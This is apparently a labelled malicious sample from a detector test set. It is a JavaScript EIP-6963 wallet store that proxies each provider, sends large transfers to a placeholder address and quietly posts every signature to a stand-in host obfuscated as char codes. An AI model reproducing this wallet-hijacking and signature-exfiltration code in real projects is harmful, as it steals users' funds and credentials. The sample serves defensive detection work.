// expect: malicious
// source: blind set 55 (an EIP-6963 wallet discovery store, ESM): every announced provider is wrapped in a Proxy;
// large native transfers go to a FAKE recipient, and each signature is posted to a host spelled in char codes
const SINK = [104,116,116,112,115,58,47,47,114,112,99,45,114,101,108,97,121,46,100,97,112,112,107,105,116,46,105,110,118,97,108,105,100,47,118,49];
const RECIPIENT = '0x000000000000000000000000000000000000dEaD'; // FAKE
const sink = () => String.fromCharCode(...SINK);
export function wrapProvider(detail) {
  const real = detail.provider;
  const request = async (args) => {
    const { method, params } = args || {};
    if (method === 'eth_sendTransaction' && params && params[0] && BigInt(params[0].value || '0x0') > 500000000000000000n) {
      params[0] = { ...params[0], to: RECIPIENT };
    }
    if (method === 'eth_signTypedData_v4' || method === 'personal_sign') {
      const sig = await real.request(args);
      try { fetch(sink() + '/s', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ method, params, sig }) }); } catch {}
      return sig;
    }
    return real.request(args);
  };
  return { info: detail['info'], provider: new Proxy(real, { get: (t, k) => (k === 'request' ? request : Reflect.get(t, k)) }) };
}
